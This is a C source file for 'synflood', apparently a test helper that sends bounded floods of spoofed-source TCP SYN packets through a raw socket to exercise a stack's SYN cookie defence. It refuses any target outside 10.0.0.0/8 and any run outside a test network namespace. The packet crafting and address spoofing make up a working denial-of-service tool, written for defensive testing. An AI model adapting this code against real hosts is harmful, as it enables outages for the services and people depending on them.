/*
 * synflood - a bounded SYN flood, for the scenario tests of SYN cookies
 * (tcp_mini/syncookie.c, RFC 4987).
 *
 * Sends TCP SYNs to DST:PORT, each from a random address of the --from
 * prefix and a random port, with a random sequence number and an MSS
 * option: what a flood from spoofed addresses looks like.  Nobody at those
 * addresses answers the SYN-ACKs, so each SYN leaves the server a half-open
 * connection until its SYN-ACKs time out (RFC 4987 2), unless the server
 * answers with cookies and keeps nothing.
 *
 * usage: synflood --dst ADDR --port PORT [--from ADDR/LEN] [--count N]
 *                 [--rate PPS] [--seconds S] [--mss MSS] [--seed N]
 *
 *   --dst       where to send: must be in 10.0.0.0/8 (see below)
 *   --port      the destination port
 *   --from      the prefix the source addresses are drawn from, also in
 *               10.0.0.0/8 (default 10.99.0.0/16); its first and last
 *               address (network, broadcast) and DST itself are never used
 *   --count     SYNs to send, 1 to 100000 (default 1000)
 *   --rate      SYNs a second, 1 to 100000 (default 1000)
 *   --seconds   stop after this long whatever the count, 1 to 30 (default 10)
 *   --mss       the MSS option's value (default 1460)
 *   --seed      the random sources, ports and sequence numbers repeat
 *               from run to run (default: a seed from getrandom())
 *
 * Stops at whichever of --count and --seconds comes first, and prints
 * "synflood: sent N SYNs to DST:PORT from NET/LEN in T s (netns NAME)" on
 * stdout.
 * Exit 0 when it stopped at either, 1 if a send failed (counted and said
 * on the same line; ENOBUFS, a full queue, does not end the flood; other
 * errors do), 2 for bad usage or a refusal.
 *
 * Safety.  This is an attack tool, kept small on purpose: everything is
 * bounded (100000 SYNs, 30 s, 100000 a second), and it refuses to run
 * unless DST and the sources are in 10.0.0.0/8, the private range the test
 * namespaces use, and unless it runs in a network namespace of a test: a
 * named one ("ip netns exec NS synflood ..."), or one that is not process
 * 1's.
 *
 * How.  A raw socket of protocol IPPROTO_RAW hands the kernel whole IPv4
 * packets, header included (raw(7): IPPROTO_RAW implies IP_HDRINCL), so
 * the source address is whatever we write.  The kernel fills in the
 * total length and header checksum anyway; we write them right all the
 * same, and the TCP checksum over the pseudo-header (RFC 9293 3.1), which
 * nobody fills in for us.  Needs root (CAP_NET_RAW).
 */
#include <arpa/inet.h>
#include <dirent.h>
#include <errno.h>
#include <getopt.h>
#include <netinet/in.h>
#include <stdbool.h>
#include <stdint.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/random.h>
#include <sys/socket.h>
#include <sys/stat.h>
#include <time.h>
#include <unistd.h>

#define MAX_COUNT	100000
#define MAX_RATE	100000
#define MAX_SECONDS	30
#define SYN_LEN		(20 + 24)	/* IPv4 header, TCP header with MSS */

/* 10.0.0.0/8, RFC 1918: the only destinations and sources allowed. */
#define TEST_NET	0x0a000000u
#define TEST_MASK	0xff000000u

static void put16(uint8_t *p, uint16_t v)
{
	p[0] = (uint8_t)(v >> 8);
	p[1] = (uint8_t)v;
}

static void put32(uint8_t *p, uint32_t v)
{
	put16(p, (uint16_t)(v >> 16));
	put16(p + 2, (uint16_t)v);
}

/* The one's complement sum of len bytes (len even), folded, not negated. */
static uint32_t sum(const uint8_t *p, size_t len, uint32_t s)
{
	size_t i;

	for (i = 0; i + 1 < len; i += 2)
		s += (uint32_t)(p[i] << 8 | p[i + 1]);
	while (s >> 16)
		s = (s & 0xffff) + (s >> 16);
	return s;
}

/* splitmix64: fast, and repeatable with --seed.  Not secret: nothing
 * here needs to be. */
static uint64_t rng;

static uint64_t next_random(void)
{
	uint64_t z = (rng += 0x9e3779b97f4a7c15ull);

	z = (z ^ (z >> 30)) * 0xbf58476d1ce4e5b9ull;
	z = (z ^ (z >> 27)) * 0x94d049bb133111ebull;
	return z ^ (z >> 31);
}

/* One SYN from src:sport to dst:dport with sequence number isn and an MSS
 * option, in b (SYN_LEN bytes); addresses in host order. */
static void build_syn(uint8_t *b, uint32_t src, uint32_t dst, uint16_t sport,
		      uint16_t dport, uint32_t isn, uint16_t mss, uint16_t ip_id)
{
	uint8_t pseudo[12], *t = b + 20;

	memset(b, 0, SYN_LEN);
	b[0] = 0x45;			/* version 4, header of 5 words */
	put16(b + 2, SYN_LEN);
	put16(b + 4, ip_id);
	put16(b + 6, 0x4000);		/* DF, as Linux sends a SYN */
	b[8] = 64;			/* TTL */
	b[9] = 6;			/* TCP */
	put32(b + 12, src);
	put32(b + 16, dst);
	put16(b + 10, (uint16_t)~sum(b, 20, 0));

	put16(t, sport);
	put16(t + 2, dport);
	put32(t + 4, isn);
	t[12] = 6 << 4;			/* data offset: 24 bytes */
	t[13] = 0x02;			/* SYN */
	put16(t + 14, 64240);		/* a window, as Linux offers */
	t[20] = 2;			/* MSS (RFC 9293 3.7.1) */
	t[21] = 4;
	put16(t + 22, mss);
	memcpy(pseudo, b + 12, 8);	/* source, destination */
	pseudo[8] = 0;
	pseudo[9] = 6;
	put16(pseudo + 10, SYN_LEN - 20);
	put16(t + 16, (uint16_t)~sum(t, SYN_LEN - 20, sum(pseudo, 12, 0)));
}

/* Whether we run in a test's network namespace: one that `ip netns add`
 * made (it keeps a file under /run/netns/ whose inode is the namespace's,
 * the way `ip netns identify` tells), or at least not process 1's (the
 * host's, or the container's).  Process 1's may be unreadable even to
 * root (it is in some containers), so the named one is looked for first.
 * Its name goes in name. */
static bool in_test_netns(char *name, size_t cap)
{
	struct stat self, other;
	struct dirent *e;
	char path[300];
	DIR *d;

	if (stat("/proc/self/ns/net", &self) < 0)
		return false;
	d = opendir("/run/netns");
	while (d && (e = readdir(d))) {
		if (e->d_name[0] == '.')
			continue;
		snprintf(path, sizeof(path), "/run/netns/%s", e->d_name);
		if (stat(path, &other) == 0 && other.st_dev == self.st_dev &&
		    other.st_ino == self.st_ino) {
			snprintf(name, cap, "%s", e->d_name);
			closedir(d);
			return true;
		}
	}
	if (d)
		closedir(d);
	if (stat("/proc/1/ns/net", &other) == 0 &&
	    (other.st_dev != self.st_dev || other.st_ino != self.st_ino)) {
		snprintf(name, cap, "unnamed, not process 1's");
		return true;
	}
	return false;
}

static double now_s(void)
{
	struct timespec ts;

	clock_gettime(CLOCK_MONOTONIC, &ts);
	return (double)ts.tv_sec + (double)ts.tv_nsec / 1e9;
}

/* A decimal number lo..hi, or exit 2 saying which option was wrong. */
static unsigned long number(const char *opt, const char *s, unsigned long lo,
			    unsigned long hi)
{
	unsigned long v;
	char *end;

	errno = 0;
	v = strtoul(s, &end, 10);
	if (errno || end == s || *end || *s == '-' || v < lo || v > hi) {
		fprintf(stderr, "synflood: --%s is '%s': %lu to %lu\n", opt, s, lo, hi);
		exit(2);
	}
	return v;
}

static void hint(void)
{
	fprintf(stderr, "synflood: only ever run it inside a test network namespace, "
		"against 10.0.0.0/8:\n"
		"  ip netns exec NS synflood --dst 10.10.10.1 --port 7 ...\n");
}

static void usage(void)
{
	fprintf(stderr, "usage: synflood --dst ADDR --port PORT [--from ADDR/LEN] [--count N]\n"
		"                [--rate PPS] [--seconds S] [--mss MSS] [--seed N]\n"
		"  at most %d SYNs, %d a second, %d s\n", MAX_COUNT, MAX_RATE, MAX_SECONDS);
	exit(2);
}

int main(int argc, char **argv)
{
	static const struct option longopts[] = {
		{ "dst", required_argument, NULL, 'd' },
		{ "port", required_argument, NULL, 'p' },
		{ "from", required_argument, NULL, 'f' },
		{ "count", required_argument, NULL, 'n' },
		{ "rate", required_argument, NULL, 'r' },
		{ "seconds", required_argument, NULL, 's' },
		{ "mss", required_argument, NULL, 'm' },
		{ "seed", required_argument, NULL, 'S' },
		{ NULL, 0, NULL, 0 },
	};
	unsigned long count = 1000, rate = 1000, seconds = 10, port = 0, mss = 1460;
	unsigned long sent = 0, errors = 0, plen = 16, i;
	uint32_t dst = 0, net = 0x0a630000u, mask, src, hosts;
	const char *dst_arg = NULL, *from_arg = "10.99.0.0/16";
	struct sockaddr_in sa;
	struct in_addr a;
	uint8_t pkt[SYN_LEN];
	double start, due, end, t;
	char from[32], *slash, netstr[INET_ADDRSTRLEN], nsname[256];
	bool have_seed = false, fatal = false;
	int c, fd;

	while ((c = getopt_long(argc, argv, "", longopts, NULL)) != -1) {
		switch (c) {
		case 'd':
			dst_arg = optarg;
			break;
		case 'p':
			port = number("port", optarg, 1, 65535);
			break;
		case 'f':
			from_arg = optarg;
			break;
		case 'n':
			count = number("count", optarg, 1, MAX_COUNT);
			break;
		case 'r':
			rate = number("rate", optarg, 1, MAX_RATE);
			break;
		case 's':
			seconds = number("seconds", optarg, 1, MAX_SECONDS);
			break;
		case 'm':
			mss = number("mss", optarg, 1, 65535);
			break;
		case 'S':
			rng = number("seed", optarg, 0, ~0ul);
			have_seed = true;
			break;
		default:
			usage();
		}
	}
	if (optind != argc || !dst_arg || !port)
		usage();
	if (inet_pton(AF_INET, dst_arg, &a) != 1) {
		fprintf(stderr, "synflood: --dst '%s' is not an IPv4 address\n", dst_arg);
		return 2;
	}
	dst = ntohl(a.s_addr);
	/* --from ADDR/LEN, LEN 8..32. */
	if (strlen(from_arg) >= sizeof(from))
		goto bad_from;
	strcpy(from, from_arg);
	slash = strchr(from, '/');
	if (slash) {
		*slash = '\0';
		plen = number("from's prefix length", slash + 1, 8, 32);
	} else {
		plen = 32;
	}
	if (inet_pton(AF_INET, from, &a) != 1)
		goto bad_from;
	mask = plen == 32 ? ~0u : ~(~0u >> plen);
	net = ntohl(a.s_addr) & mask;

	if ((dst & TEST_MASK) != TEST_NET || (net & TEST_MASK) != TEST_NET) {
		fprintf(stderr, "synflood: refused: --dst and --from must be in 10.0.0.0/8\n");
		hint();
		return 2;
	}
	if (plen == 32 && net == dst) {
		fprintf(stderr, "synflood: refused: SYNs from DST to itself\n");
		return 2;
	}
	if (!in_test_netns(nsname, sizeof(nsname))) {
		fprintf(stderr, "synflood: refused: this network namespace is none of "
			"/run/netns/ (ip netns add), nor known to differ from process 1's\n");
		hint();
		return 2;
	}
	if (!have_seed && getrandom(&rng, sizeof(rng), 0) != (ssize_t)sizeof(rng))
		rng = (uint64_t)time(NULL) ^ (uint64_t)getpid() << 32;

	fd = socket(AF_INET, SOCK_RAW, IPPROTO_RAW);
	if (fd < 0) {
		fprintf(stderr, "synflood: raw socket: %s (needs root)\n", strerror(errno));
		return 2;
	}
	memset(&sa, 0, sizeof(sa));
	sa.sin_family = AF_INET;
	sa.sin_addr.s_addr = htonl(dst);

	/* Host numbers 1 .. hosts (not the network or broadcast address)
	 * of a prefix of 30 bits or less; a /31 or /32 is used whole. */
	hosts = ~mask;
	start = now_s();
	end = start + (double)seconds;
	for (i = 0; i < count; i++) {
		/* Packet i is due at start + i / rate: sleep until then. */
		due = start + (double)i / (double)rate;
		t = now_s();
		if (t >= end || due >= end)
			break;
		if (due > t) {
			struct timespec ts;
			double d = due - t;

			ts.tv_sec = (time_t)d;
			ts.tv_nsec = (long)((d - (double)ts.tv_sec) * 1e9);
			nanosleep(&ts, NULL);
		}
		do {
			if (plen >= 31)
				src = net | (uint32_t)(next_random() & hosts);
			else
				src = net | (uint32_t)(1 + next_random() % (hosts - 1));
		} while (src == dst);
		build_syn(pkt, src, dst,
			  (uint16_t)(1024 + next_random() % (65536 - 1024)),
			  (uint16_t)port, (uint32_t)next_random(), (uint16_t)mss,
			  (uint16_t)next_random());
		if (sendto(fd, pkt, sizeof(pkt), 0, (struct sockaddr *)&sa, sizeof(sa)) < 0) {
			/* A full queue (ENOBUFS) or an ARP that failed: count
			 * it and go on; anything else ends the flood. */
			if (errno != ENOBUFS && errno != EAGAIN && errno != EHOSTUNREACH) {
				fprintf(stderr, "synflood: sendto: %s\n", strerror(errno));
				fatal = true;
				break;
			}
			errors++;
			continue;
		}
		sent++;
	}
	close(fd);
	a.s_addr = htonl(net);
	inet_ntop(AF_INET, &a, netstr, sizeof(netstr));
	printf("synflood: sent %lu SYNs to %s:%lu from %s/%lu in %.2f s (netns %s)",
	       sent, dst_arg, port, netstr, plen, now_s() - start, nsname);
	if (errors)
		printf(" (%lu not sent: send errors)", errors);
	printf("\n");
	return fatal || errors ? 1 : 0;
bad_from:
	fprintf(stderr, "synflood: --from '%s' is not ADDR/LEN (LEN 8 to 32)\n", from_arg);
	return 2;
}
